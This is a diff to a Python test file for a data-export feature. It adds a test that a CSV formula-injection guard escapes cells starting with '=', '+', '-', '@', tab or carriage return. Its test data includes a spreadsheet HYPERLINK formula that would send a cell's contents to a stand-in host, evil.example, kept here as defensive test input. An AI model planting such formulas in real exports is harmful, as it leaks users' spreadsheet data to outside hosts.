@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import json
 from datetime import UTC, datetime
 from pathlib import Path
 from uuid import UUID
@@ -80,16 +82,60 @@ async def test_csv_bytes_for_tricky_data(pool: Pool, tmp_path: Path) -> None:
 
     text, rows = await run_export(pool, org, tmp_path, tz="America/New_York")
     assert rows == 3
+    # "@c" starts like a formula: the guard (on by default) writes it "'@c".
     assert text == HEADER + (
-        '"Ünïcödé","https://v.example/1","tiktok","active","A","@c","2026-11-20","2026-11-01",,0,,7\n'
-        '"Say ""hi"", then\nleave 🎉","https://v.example/1","tiktok","active","A","@c","2026-11-20","2026-11-01",'
+        '"Ünïcödé","https://v.example/1","tiktok","active","A","\'@c","2026-11-20","2026-11-01",,0,,7\n'
+        '"Say ""hi"", then\nleave 🎉","https://v.example/1","tiktok","active","A","\'@c","2026-11-20","2026-11-01",'
         "10000,500,100,50\n"
-        ',"https://v.example/1","tiktok","active",,"@c",,"2026-11-01",,,,\n'
+        ',"https://v.example/1","tiktok","active",,"\'@c",,"2026-11-01",,,,\n'
     )
     assert not text.startswith("\ufeff") and "\r" not in text
     # The same instant is a different local date in Tokyo.
     tokyo, _ = await run_export(pool, org, tmp_path, tz="Asia/Tokyo")
     assert '"2026-11-21","2026-11-02",10000' in tokyo
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(1+1)",
+    "\tcmd",
+    "\r=cmd",
+]
+HARMLESS = ["plain", " =not at the start", "a=b", "", "'quoted already"]
+
+
+async def test_csv_formula_guard_prefixes_text_cells_that_start_like_a_formula(pool: Pool, tmp_path: Path) -> None:
+    org = await seed.organization(pool)
+    values = FORMULAS + HARMLESS
+    for i, value in enumerate(values):
+        # Newest first: the file lists them in this order.
+        published = f"2026-11-20T{23 - i:02d}:00Z"
+        await video(pool, org, title=value, campaign_tag=value, channel_username="c", published=published)
+    await video(pool, org, title=None, campaign_tag=None, published="2026-11-01T00:00Z")
+    files = {}
+    async with pool.acquire() as conn:
+        for name, guard, kind in (("on", True, "csv"), ("off", False, "csv"), ("ndjson", True, "ndjson")):
+            files[name] = tmp_path / f"{name}.{kind}"
+            await export_to_file(conn, org, parse_filters({}), "UTC", FIRE, files[name], kind=kind, formula_guard=guard)
+
+    def column(name: str, index: int) -> list[str]:
+        with files[name].open(newline="", encoding="utf-8") as handle:
+            return [row[index] for row in list(csv.reader(handle))[1:]]
+
+    guarded = ["'" + v for v in FORMULAS] + HARMLESS + [""]
+    for index in (0, 4):  # title, campaign_tag
+        assert column("on", index) == guarded
+        assert column("off", index) == [*values, ""]
+    # The byte contract: the apostrophe goes inside the quotes; NULL stays an empty field without quotes.
+    lines = files["on"].read_bytes().decode().split("\n")
+    assert lines[1].startswith('"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",')
+    assert lines[-2].startswith(',"https://v.example/1","tiktok","active",,"\'@c",')
+    # Numbers and dates are not text: never prefixed. NDJSON is data for programs: untouched.
+    assert [line for line in lines[1:-1] if not line.endswith(",1,2,3,4")] == []
+    ndjson = [json.loads(line) for line in files["ndjson"].read_text().splitlines()]
+    assert [row["title"] for row in ndjson] == [*values, None]
 
 
 async def test_other_organizations_never_appear_and_pages_cover_everything(pool: Pool, tmp_path: Path) -> None:
